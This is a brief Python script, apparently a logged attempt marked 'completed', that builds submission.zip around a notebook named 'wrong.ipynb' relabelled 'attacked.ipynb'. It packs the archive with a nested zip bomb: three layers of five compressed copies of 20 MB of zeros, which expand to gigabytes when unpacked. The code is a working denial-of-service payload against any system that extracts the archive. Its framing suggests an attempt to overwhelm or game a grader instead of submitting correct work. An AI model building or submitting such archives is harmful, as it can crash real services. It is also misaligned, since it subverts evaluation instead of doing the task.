# tries: Packages within packages, each of them larger inside.
# verdict: completed
# hands_in: submission.zip
# %%
import io
import zipfile

notebook = open("wrong.ipynb", "rb").read()


def package(entries, mode="w"):
    with zipfile.ZipFile("submission.zip", mode, zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("attacked.ipynb", notebook)
        for name, data in entries:
            archive.writestr(name, data)


inner = bytes(20 << 20)
for _ in range(3):
    layer = io.BytesIO()
    with zipfile.ZipFile(layer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(5):
            archive.writestr(f"{number}.csv", inner)
    inner = layer.getvalue()
package([("notes/inner.zip", inner), ("inner.csv", inner)])
